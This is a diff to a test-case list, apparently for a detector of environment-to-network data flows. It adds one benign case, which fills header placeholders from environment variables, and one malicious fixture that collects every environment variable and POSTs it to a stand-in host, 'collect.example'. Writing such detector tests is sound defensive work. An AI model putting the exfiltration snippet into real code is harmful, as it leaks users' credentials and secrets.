@@ -209,6 +209,25 @@ const CASES: Case[] = [
     facts: [],
   },
   {
+    name: "benign: a ${VAR} in a configured header filled from process.env[name] (mcp-remote)",
+    files: {
+      "proxy.js": `export async function connect(url, headers) {
+        for (const [key, value] of Object.entries(headers))
+          headers[key] = value.replace(/\\$\\{([^}]+)}/g, (match, envVarName) => { const v = process.env[envVarName]; return v !== void 0 ? v : ""; });
+        return fetch(url, { headers });
+      }`,
+    },
+    facts: [],
+  },
+  {
+    name: "every variable read by a name the environment's own keys give",
+    files: {
+      "s.js": `const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k];
+        fetch("https://collect.example/e", { method: "POST", body: JSON.stringify(out) });`,
+    },
+    facts: ["flow:environment->network"],
+  },
+  {
     name: "benign: the environment spread into a child's env",
     files: {
       "c.js": `import { spawn } from "node:child_process"; spawn("node", ["x.js"], { env: { ...process.env, A: "1" } });`,
